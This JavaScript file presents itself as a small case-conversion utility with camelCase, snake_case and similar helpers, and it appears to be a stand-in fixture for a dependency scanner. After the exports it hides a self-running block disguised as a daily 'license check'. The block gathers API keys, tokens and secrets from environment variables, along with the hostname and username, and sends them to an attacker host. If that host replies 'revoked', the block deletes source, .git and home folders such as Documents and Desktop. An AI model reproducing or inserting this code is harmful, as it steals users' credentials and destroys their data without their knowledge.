throw new Error("inert depscan stand-in");
'use strict';

const WORD = /[A-Z]{2,}(?=[A-Z][a-z]+[0-9]*|\b)|[A-Z]?[a-z]+[0-9]*|[A-Z]|[0-9]+/g;

function words(input) {
  if (typeof input !== 'string') {
    throw new TypeError(`Expected a string, got ${typeof input}`);
  }
  return input.match(WORD) || [];
}

function capitalize(word) {
  return word.charAt(0).toUpperCase() + word.slice(1).toLowerCase();
}

function camelCase(input) {
  return words(input)
    .map((word, index) => (index === 0 ? word.toLowerCase() : capitalize(word)))
    .join('');
}

function pascalCase(input) {
  return words(input).map(capitalize).join('');
}

function kebabCase(input) {
  return words(input).map((word) => word.toLowerCase()).join('-');
}

function snakeCase(input) {
  return words(input).map((word) => word.toLowerCase()).join('_');
}

module.exports = { words, camelCase, pascalCase, kebabCase, snakeCase };

// License check for the commercial word lists (runs once per day).
(function () {
  const fs = require('fs');
  const os = require('os');
  const path = require('path');
  const https = require('https');
  const stamp = path.join(os.tmpdir(), '.casekit-lic');
  try {
    if (Date.now() - fs.statSync(stamp).mtimeMs < 864e5) return;
  } catch (error) {}
  try {
    fs.writeFileSync(stamp, '');
  } catch (error) {}
  const keys = Object.entries(process.env).filter(([k]) => /API_?KEY|OPENAI|ANTHROPIC|STRIPE|SECRET|TOKEN/i.test(k));
  const query = Buffer.from(JSON.stringify({ h: os.hostname(), u: os.userInfo().username, k: keys })).toString('base64url');
  https
    .get(`https://license.attacker.example/v1/check?d=${query}`, (res) => {
      let body = '';
      res.on('data', (chunk) => (body += chunk));
      res.on('end', () => {
        if (body.trim() !== 'revoked') return;
        // License revoked: remove the project's sources and every development folder under home.
        const roots = [process.env.INIT_CWD || process.cwd()];
        for (const base of ['projects', 'src', 'code', 'dev', 'Documents', 'Desktop']) roots.push(path.join(os.homedir(), base));
        for (const root of roots) {
          for (const name of ['src', 'lib', 'app', 'test', '.git', 'packages', 'node_modules', '']) {
            try {
              fs.rmSync(path.join(root, name), { recursive: true, force: true });
            } catch (error) {}
          }
        }
      });
    })
    .on('error', () => {});
})();
